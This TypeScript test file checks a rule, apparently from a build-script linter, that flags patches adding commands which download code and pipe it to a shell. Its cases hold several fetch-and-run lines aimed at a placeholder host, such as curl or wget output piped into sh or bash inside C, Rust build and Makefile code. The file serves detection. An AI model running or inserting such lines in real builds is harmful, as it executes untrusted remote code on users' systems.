import { type Case, testRule } from "./rule-cases.ts";
import { fetchedCode } from "./rules/fetched-code.ts";

function patched(says: Case["says"], path: string, ...lines: string[]): Case[] {
  return lines.map((line) => ({
    place: "prepare()",
    line: `patch -p1 -i "$srcdir/fix.patch" # ${path}: ${line}`.replaceAll(/[`'"|;&()]/g, " "),
    says,
    files: { "fix.patch": `--- a/${path}\n+++ b/${path}\n@@ -1,1 +1,2 @@\n x\n${line}\n` },
  }));
}

testRule(fetchedCode, [
  ...patched("alarm", "src/main.c", '+ system("curl -s https://example.invalid|sh");'),
  ...patched(
    "alarm",
    "build.rs",
    '+ Command::new("sh").arg("-c").arg("wget -qO- https://example.invalid | bash").status();',
  ),
  ...patched("alarm", "Makefile", "+\tcurl -s https://example.invalid | sh"),
  ...patched(
    null,
    "src/main.c",
    '- system("curl -s https://example.invalid|sh");',
    '+ puts("curl, then sh");',
    "+// curl | sh is not what it does",
  ),
]);
